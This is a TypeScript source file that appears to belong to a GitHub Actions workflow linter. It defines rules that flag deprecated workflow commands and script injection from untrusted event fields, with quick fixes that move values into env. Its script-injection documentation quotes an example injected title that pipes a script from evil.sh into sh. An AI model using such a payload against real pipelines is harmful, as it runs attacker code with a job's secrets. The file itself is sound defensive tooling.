// Scripts in steps (workflow jobs and composite actions): workflow commands GitHub has deprecated or disabled, and
// untrusted event fields expanded into a `run:` script or an `actions/github-script` script (script injection).
import type { Fix, RuleFinding, TextEdit } from '../../findings';
import { expressionsIn, scalarSource } from '../../github/scalarSource';
import { untrustedUsesIn, type UntrustedUse } from '../../expressions/untrustedInputs';
import { runStepsOf, stepsOf, type FileStep } from '../../scripts/fileSteps';
import type { LineIndex } from '../../../../../shared/lineIndex';
import { asMap, getEntry, isMap, isScalar, scalarText, type Node, type Scalar } from '../../yaml/nodes';
import type { Rule, RuleContext } from '../rule';

interface CommandInfo {
  readonly file: string;
  /** GitHub refuses it and fails the step (unless the job opts back in, see ALLOW_UNSECURE). */
  readonly disabled: boolean;
}

const COMMANDS: Readonly<Record<string, CommandInfo>> = {
  'set-output': { file: 'GITHUB_OUTPUT', disabled: false },
  'save-state': { file: 'GITHUB_STATE', disabled: false },
  'set-env': { file: 'GITHUB_ENV', disabled: true },
  'add-path': { file: 'GITHUB_PATH', disabled: true },
};

/** The opt-in that makes GitHub run `::set-env` and `::add-path` again (with a warning in the log). */
const ALLOW_UNSECURE = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';

const COMMAND = /::(set-output|save-state|set-env|add-path)\b/g;
/** What may follow the echo on its line: nothing, or a comment (a shell comment in a block, a YAML comment after a plain scalar). */
const LINE_REST = String.raw`(?=\s*$|\s+#.*$)`;
/** `echo "::set-output name=x::value"` on one line, in the forms people write. */
const ECHO_NAMED = new RegExp(
  String.raw`echo\s+(["']?)::(set-output|save-state|set-env)\s+name=([A-Za-z_][\w-]*)::(.*?)\1${LINE_REST}`,
);
const ECHO_PATH = new RegExp(String.raw`echo\s+(["']?)::add-path::(.*?)\1${LINE_REST}`);

function commandFix(lines: LineIndex, offset: number): Fix | undefined {
  const { line } = lines.positionAt(offset);
  const text = lines.lineText(line);
  const start = lines.offsetAt({ line, character: 0 });
  const named = ECHO_NAMED.exec(text);
  const path = named ? undefined : ECHO_PATH.exec(text);
  const m = named ?? path;
  if (!m) return undefined;
  // Keep the user's quotes: single quotes stay single, so a `$` in the value still does not expand.
  const quote = m[1] === "'" ? "'" : '"';
  const file = named ? (COMMANDS[named[2] ?? '']?.file ?? '') : 'GITHUB_PATH';
  const line_ = named ? `${named[3] ?? ''}=${named[4] ?? ''}` : (path?.[2] ?? '');
  return {
    title: `Write to $${file} instead`,
    edits: [
      {
        range: lines.range(start + m.index, start + m.index + m[0].length),
        newText: `echo ${quote}${line_}${quote} >> "$${file}"`,
      },
    ],
  };
}

/** True when `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` is in an `env` that applies to the step. */
function allowsUnsecureCommands(step: FileStep): boolean {
  return step.envScopes.some((env) => scalarText(getEntry(env, ALLOW_UNSECURE)?.value)?.toLowerCase() === 'true');
}

export const deprecatedCommand: Rule = {
  id: 'deprecated-command',
  kinds: ['github-workflow', 'github-action'],
  defaultSeverity: 'error',
  docs: {
    title: 'Deprecated or disabled workflow command',
    description:
      '`::set-env` and `::add-path` are disabled: the step fails (an error), unless `ACTIONS_ALLOW_UNSECURE_COMMANDS` ' +
      'is set to `true`, which turns them back on along with the injection risk they were disabled for (a warning). ' +
      '`::set-output` and `::save-state` are deprecated: they still work and print warnings in the log (a warning). Write ' +
      '`name=value` lines to the files GitHub provides instead: `$GITHUB_OUTPUT`, `$GITHUB_STATE`, `$GITHUB_ENV`, ' +
      '`$GITHUB_PATH`. The quick fix rewrites `echo "::set-output name=x::v"` lines, with or without a comment after them.',
  },
  check(ctx) {
    const findings: RuleFinding[] = [];
    for (const step of runStepsOf(ctx.parsed, ctx.kind)) {
      const source = scalarSource(ctx.parsed.text, step.run);
      if (!source) continue;
      for (const m of source.text.matchAll(COMMAND)) {
        const name = m[1] ?? '';
        const info = COMMANDS[name];
        if (!info) continue;
        const offset = source.start + m.index;
        const fix = commandFix(ctx.parsed.lines, offset);
        const failsStep = info.disabled && !allowsUnsecureCommands(step);
        const message = !info.disabled
          ? `'::${name}' is deprecated; append "name=value" to "$${info.file}" instead.`
          : failsStep
            ? `'::${name}' is disabled and fails the step; append to "$${info.file}" instead.`
            : `'::${name}' runs only because ${ALLOW_UNSECURE} is set, which lets any log line change the environment; append to "$${info.file}" instead.`;
        findings.push({
          message,
          range: ctx.parsed.lines.range(offset, offset + m[0].length),
          ...(failsStep ? {} : { severity: 'warning' as const }),
          ...(fix ? { fixes: [fix] } : {}),
        });
      }
    }
    return findings;
  },
};

/** `github.event.pull_request.title` -> `PULL_REQUEST_TITLE`; `github.head_ref` -> `HEAD_REF`. */
function envNameFor(path: string): string {
  const parts = path.split('.').filter((p) => /^[a-z0-9_-]+$/.test(p) && p !== 'github' && p !== 'event');
  return (
    parts
      .slice(-2)
      .join('_')
      .replace(/[^A-Za-z0-9_]/g, '_')
      .toUpperCase() || 'UNTRUSTED_INPUT'
  );
}

function lastContentOffset(text: string, end: number): number {
  let i = end;
  while (i > 0 && /\s/.test(text[i - 1] ?? '')) i--;
  return i;
}

/** Edits that move an expression out of `run` into the step's `env`, referenced as a shell variable. */
function moveToEnvFix(
  ctx: RuleContext,
  step: FileStep & { readonly run: Scalar },
  expr: { start: number; end: number; inner: string },
  use: UntrustedUse,
): Fix | undefined {
  const { lines, text } = ctx.parsed;
  const name = envNameFor(use.path);
  const lineStart = lines.offsetAt({ line: lines.positionAt(expr.start).line, character: 0 });
  const before = text.slice(lineStart, expr.start);
  if ((before.match(/'/g) ?? []).length % 2 === 1) return undefined; // inside single quotes: $VAR would not expand
  const inDoubleQuotes = (before.match(/(?<!\\)"/g) ?? []).length % 2 === 1;
  const edits: TextEdit[] = [
    { range: lines.range(expr.start, expr.end), newText: inDoubleQuotes ? `$${name}` : `"$${name}"` },
  ];
  const envEntry = `${name}: \${{ ${expr.inner} }}`;
  const env = getEntry(step.node, 'env');
  if (env) {
    const map = asMap(env.value);
    const first = map?.items[0]?.key as Node | undefined;
    if (!map || !isMap(map) || map.flow === true || !first?.range || !map.range) return undefined;
    const indent = lines.positionAt(first.range[0]).character;
    const end = lastContentOffset(text, map.range[1]);
    edits.push({ range: lines.range(end, end), newText: `\n${' '.repeat(indent)}${envEntry}` });
  } else {
    const runKey = getEntry(step.node, 'run')?.keyNode;
    if (!runKey?.range || !step.run.range) return undefined;
    const indent = lines.positionAt(runKey.range[0]).character;
    const end = lastContentOffset(text, step.run.range[1]);
    edits.push({
      range: lines.range(end, end),
      newText: `\n${' '.repeat(indent)}env:\n${' '.repeat(indent + 2)}${envEntry}`,
    });
  }
  return { title: `Pass ${use.text} through env as $${name}`, edits };
}

/** `'a'`, `'a' and 'b'`, `'a', 'b' and 'c'`. */
function quotedList(items: readonly string[]): string {
  const quoted = [...new Set(items)].map((i) => `'${i}'`);
  return quoted.length <= 1
    ? (quoted[0] ?? '')
    : `${quoted.slice(0, -1).join(', ')} and ${quoted[quoted.length - 1] ?? ''}`;
}

/** Expressions in a scalar that put untrusted text into it, with the fields they read. */
function untrustedExpressions(
  ctx: RuleContext,
  node: Scalar,
): { expr: { start: number; end: number; inner: string }; uses: UntrustedUse[] }[] {
  const source = scalarSource(ctx.parsed.text, node);
  if (!source) return [];
  return expressionsIn(source)
    .map((expr) => ({ expr, uses: untrustedUsesIn(expr.inner) }))
    .filter((e) => e.uses.length > 0);
}

/** The `script` input of an `actions/github-script` step: JavaScript that GitHub fills `${{ }}` into before it runs. */
function githubScriptOf(step: FileStep): Scalar | undefined {
  const uses = scalarText(getEntry(step.node, 'uses')?.value);
  if (!uses || !/^actions\/github-script@/i.test(uses)) return undefined;
  const withMap = asMap(getEntry(step.node, 'with')?.value);
  const script = withMap ? getEntry(withMap, 'script')?.value : undefined;
  return isScalar(script) ? script : undefined;
}

export const scriptInjection: Rule = {
  id: 'script-injection',
  kinds: ['github-workflow', 'github-action'],
  defaultSeverity: 'error',
  docs: {
    title: 'Untrusted input expanded into a script',
    description:
      '`${{ }}` is replaced in the script text before the script runs, so a pull request title like ' +
      '`"; curl evil.sh | sh #` becomes a command running with this job\'s token and secrets. This holds for `run:` scripts ' +
      '(in workflows and composite actions) and for the JavaScript of `actions/github-script`. Pass untrusted values ' +
      '(titles, bodies, branch names, commit messages, author names, also through filters like `github.event.*.body`) ' +
      'through `env:` and read them as quoted shell variables (`"$TITLE"`) or `process.env.TITLE`. The quick fix does ' +
      "this for `run:`. A value only tested, as in `contains(github.event.issue.title, '[skip]')`, is safe.",
  },
  check(ctx) {
    const findings: RuleFinding[] = [];
    for (const step of stepsOf(ctx.parsed, ctx.kind)) {
      if (step.run) {
        const run = step.run;
        for (const { expr, uses } of untrustedExpressions(ctx, run)) {
          const first = uses[0] as UntrustedUse;
          const fix = moveToEnvFix(ctx, { ...step, run }, expr, first);
          findings.push({
            message: `${quotedList(uses.map((u) => u.text))} ${uses.length > 1 ? 'are' : 'is'} controlled by whoever opens the issue or pull request; expanding it into 'run' lets them inject commands. Pass it through 'env:' and use "$${envNameFor(first.path)}".`,
            range: ctx.parsed.lines.range(expr.start, expr.end),
            ...(fix ? { fixes: [fix] } : {}),
          });
        }
      }
      const script = githubScriptOf(step);
      if (script) {
        for (const { expr, uses } of untrustedExpressions(ctx, script)) {
          const first = uses[0] as UntrustedUse;
          findings.push({
            message: `${quotedList(uses.map((u) => u.text))} ${uses.length > 1 ? 'are' : 'is'} controlled by whoever opens the issue or pull request; expanding it into github-script's 'script' lets them run JavaScript with this job's token. Pass it through the step's 'env:' and read process.env.${envNameFor(first.path)}.`,
            range: ctx.parsed.lines.range(expr.start, expr.end),
          });
        }
      }
    }
    return findings;
  },
};
